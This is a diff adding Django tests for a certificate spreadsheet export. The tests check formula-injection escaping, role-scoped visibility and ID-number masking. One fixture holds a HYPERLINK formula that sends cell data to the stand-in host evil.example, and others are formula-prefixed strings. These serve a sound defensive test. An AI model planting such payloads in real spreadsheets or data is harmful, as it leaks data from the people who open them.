@@ -1,0 +1,121 @@
+"""The certificate export: the caller's visible certificates with their status, cells escaped
+against formula injection, ID numbers as the caller may see them."""
+
+import datetime as dt
+import io
+import zipfile
+
+import pytest
+from django.core.management import call_command
+from django.test import Client
+from openpyxl import load_workbook
+
+from safework.accounts.models import Role, RoleGrant, User
+from safework.certs.imports import reader, xlsx
+from safework.certs.tests.factories import CertificateFactory, item
+from safework.org.tests.factories import DepartmentFactory, SiteFactory
+from safework.people.tests.factories import EmploymentFactory, PersonFactory
+
+URL = "/api/v1/exports/certificates"
+ON = "2026-03-02"
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def client_for(username, role, **where):
+    user = User.objects.create(username=username)
+    RoleGrant.objects.create(user=user, role=role, **where)
+    client = Client(headers={"accept-language": "en"})  # headers as English msgids
+    client.force_login(user)
+    return client
+
+
+@pytest.fixture
+def certificates(db, catalogue):
+    site_a, site_b = SiteFactory(), SiteFactory()
+    dept = DepartmentFactory(site=site_a, name="车间甲")
+    evil = EmploymentFactory(department=dept, person=PersonFactory(name=EVIL_NAME)).person
+    CertificateFactory(
+        person=evil,
+        item=item("special_operation", "2.1"),
+        number="+86-1234",
+        restriction="",
+        issuing_authority="@SUM(1+1)",
+        issued_on=dt.date(2023, 5, 10),
+        valid_until=dt.date(2029, 5, 9),
+    )
+    plain = EmploymentFactory(department=dept).person
+    CertificateFactory(
+        person=plain,
+        item=item("special_equipment", "N1"),
+        number="\t-cmd",
+        issued_on=dt.date(2021, 1, 10),
+        valid_until=dt.date(2025, 1, 9),
+        verification="verified",
+    )
+    other_site = EmploymentFactory(department=DepartmentFactory(site=site_b)).person
+    CertificateFactory(person=other_site, item=item("special_operation", "1.2"), number="B-1")
+    return {"site_a": site_a, "site_b": site_b, "evil": evil, "plain": plain}
+
+
+def rows_of(content: bytes) -> list[tuple]:
+    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
+
+
+@pytest.mark.django_db
+def test_cells_that_start_like_formulas_are_escaped(certificates):
+    response = client_for("admin", Role.ADMINISTRATOR).get(f"{URL}?on={ON}")
+    assert response.status_code == 200
+    assert 'filename="certificates-2026-03-02.xlsx"' in response["Content-Disposition"]
+    rows = rows_of(response.content)
+    header, data = rows[0], rows[1:]
+    assert len(data) == 3
+    by_number = {r[header.index("certificate number")]: r for r in data}
+    evil = by_number["'+86-1234"]
+    assert evil[header.index("name")] == "'" + EVIL_NAME
+    assert evil[header.index("issuing authority")] == "'@SUM(1+1)"
+    assert "'\t-cmd" in by_number
+    # no cell of the workbook is a formula
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    assert reader._formula_cells(archive, "xl/worksheets/sheet1.xml") == set()
+    # statuses on the date asked
+    status = header.index("status")
+    assert by_number["'\t-cmd"][status] == "expired"
+    assert evil[status] == "unverified" and evil[header.index("usable")] == "yes"
+    # Order 30's 3-yearly review, due before 2026-06-01
+    assert evil[header.index("next review due")].date() == dt.date(2026, 5, 10)
+
+
+@pytest.mark.django_db
+def test_the_export_holds_what_the_caller_sees(certificates):
+    officer = client_for("officer", Role.SAFETY_OFFICER, site=certificates["site_a"])
+    rows = rows_of(officer.get(f"{URL}?on={ON}").content)
+    header = rows[0]
+    numbers = {r[header.index("certificate number")] for r in rows[1:]}
+    assert numbers == {"'+86-1234", "'\t-cmd"}  # not site B's certificate
+    full = certificates["plain"].id_number
+    assert full in {r[header.index("ID number")] for r in rows[1:]}
+
+    inspector = client_for("inspector", Role.INSPECTOR)
+    rows = rows_of(inspector.get(f"{URL}?on={ON}&scheme=special_equipment").content)
+    assert len(rows) == 2
+    assert rows[1][rows[0].index("ID number")] == full[:6] + "********" + full[-4:]
+
+    response = officer.get(f"{URL}?site_id={certificates['site_b'].pk}")
+    assert response.status_code == 422  # a site outside the caller's scope
+
+
+def test_safe_escapes_every_formula_prefix():
+    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
+        assert xlsx.safe(text) == "'" + text
+    assert xlsx.safe("plain 文字") == "plain 文字"
+    assert xlsx.safe("a\x00b\x1fc") == "abc"
+    assert xlsx.safe(12) == 12 and xlsx.safe(None) is None
+    assert xlsx.csv_bytes(["h"], [["=1+1"]]).decode("utf-8") == "\ufeffh\r\n'=1+1\r\n"
+
+
+@pytest.mark.django_db
+def test_export_command(certificates, tmp_path):
+    out = tmp_path / "all.xlsx"
+    call_command("export_certificates", "--out", str(out), "--on", ON, verbosity=0)
+    rows = rows_of(out.read_bytes())
+    assert len(rows) == 4
